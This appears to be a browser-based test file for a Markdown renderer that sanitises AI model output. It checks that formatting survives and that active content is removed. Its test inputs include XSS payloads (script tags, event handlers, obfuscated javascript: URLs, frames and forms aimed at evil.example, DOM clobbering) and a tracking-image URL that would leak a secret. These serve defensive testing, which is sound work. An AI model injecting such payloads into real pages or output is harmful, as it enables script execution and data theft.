// renderMarkdown in a real browser (DOMPurify needs a DOM): model output keeps its
// formatting and loses everything that could run code, leak data or cover the app.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { useFixture } from './fixture.mjs';

const { page } = await useFixture({ page: 'home' });

/** @param {string} md */
const render = (md) => page.evaluate(async (src) => (await import('/web/safety/markdown.js')).renderMarkdown(src), md);

/** Parses HTML in the page and reports what survived. @param {string} html */
const inspect = (html) =>
  page.evaluate((h) => {
    const t = document.createElement('template');
    t.innerHTML = h;
    const all = [...t.content.querySelectorAll('*')];
    return {
      tags: [...new Set(all.map((e) => e.tagName.toLowerCase()))].sort(),
      handlers: all.flatMap((e) => [...e.attributes].map((a) => a.name)).filter((n) => n.startsWith('on')),
      styles: all.filter((e) => e.hasAttribute('style')).length,
      hrefs: all.map((e) => e.getAttribute('href')).filter((x) => x !== null),
      srcs: all.map((e) => e.getAttribute('src')).filter((x) => x !== null),
      ids: all.map((e) => e.id).filter(Boolean),
      names: all.map((e) => e.getAttribute('name')).filter((x) => x !== null),
    };
  }, html);

test('keeps Markdown formatting: headings, lists, tables, code with language, task lists, safe links', async () => {
  const html = await render(
    '# Title\n\n- a\n- **b**\n\n| x | y |\n|---|---|\n| 1 | 2 ' +
      '|\n\n```python\nprint(1)\n```\n\n- [x] done\n\n[site](https://example.com) and ' +
      '`inline`',
  );
  const r = await inspect(html);
  for (const tag of ['h1', 'ul', 'li', 'strong', 'table', 'td', 'pre', 'code', 'a', 'input']) assert.ok(r.tags.includes(tag), tag);
  assert.match(html, /class="language-python"/);
  assert.match(html, /<a href="https:\/\/example\.com" target="_blank" rel="noopener noreferrer nofollow">/);
  assert.match(html, /<input[^>]*disabled/);
});

test('strips scripts, handlers, javascript: URLs, forms, frames, styles, SVG and other active content', async () => {
  const attacks = [
    '<script>window.__x=1</script>',
    '<img src=x onerror="window.__x=2">',
    '[a](javascript:window.__x=3) [b](JAVASCRIPT:alert(1)) [c]( javascript:alert(1)) ' +
      '[d](vbscript:x) [e](data:text/html,<script>alert(1)</script>)',
    '<a href="javascript:alert(1)">f</a> <a href="jav&#x09;ascript:alert(1)">g</a>',
    '<iframe src="https://evil.example"></iframe><frame><object data="x"></object><embed src="x">',
    '<form action="https://evil.example"><input name="q"><button ' +
      'formaction="https://evil.example">go</button><textarea></textarea><select></select></' +
      'form>',
    '<style>body{display:none}</style><div style="position:fixed;inset:0;z-index:' +
      '9999">cover</div><link rel="stylesheet" href="https://evil.example/x.css">',
    '<svg onload="window.__x=4"><circle r="4"/></svg><math><mi>x</mi></math>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">',
    '<details open ontoggle="window.__x=5"><summary>s</summary>d</details>',
    '<img name="getElementById"><a id="location">clobber</a><form name="cookie"></form>',
    '<dialog open>modal</dialog><video src="x" autoplay></video><audio src="x"></audio>',
  ];
  const r = await inspect(await render(attacks.join('\n\n')));
  for (const bad of [
    'script',
    'iframe',
    'frame',
    'object',
    'embed',
    'form',
    'textarea',
    'select',
    'button',
    'style',
    'link',
    'svg',
    'math',
    'meta',
    'base',
    'dialog',
    'video',
    'audio',
  ]) {
    assert.ok(!r.tags.includes(bad), `${bad} survived`);
  }
  assert.deepEqual(r.handlers, []);
  assert.equal(r.styles, 0);
  assert.ok(
    r.hrefs.every((h) => /^(https?:|mailto:|#)/.test(h)),
    `unsafe href survived: ${r.hrefs}`,
  );
  assert.ok(
    !r.ids.includes('location') && !r.names.includes('getElementById') && !r.names.includes('cookie'),
    'DOM clobbering names survived',
  );
  assert.equal(await page.evaluate(() => /** @type {any} */ (window).__x), undefined);
});

test('remote images become links (no request to any server); inline data images stay', async () => {
  const html = await render(
    '![tracker](https://evil.example/p.png?d=secret) ![ok](data:image/png;base64,iVBORw0KGgo=) <img src="https://evil.example/x.gif">',
  );
  const r = await inspect(html);
  assert.ok(
    r.srcs.every((s) => s.startsWith('data:image/png')),
    `remote src survived: ${r.srcs}`,
  );
  assert.ok(r.hrefs.includes('https://evil.example/p.png?d=secret'), 'offered as a link instead');
  // The link says in words what it is (no emoji: a machine without a colour emoji font shows a box).
  assert.match(html, /<a [^>]*href="https:\/\/evil\.example\/p\.png\?d=secret"[^>]*>Image: tracker<\/a>/);
  assert.match(await render('![](https://evil.example/q.png)'), />Image<\/a>/, 'no alt text: just "Image"');
  assert.doesNotMatch(html, /\p{Extended_Pictographic}/u);
});
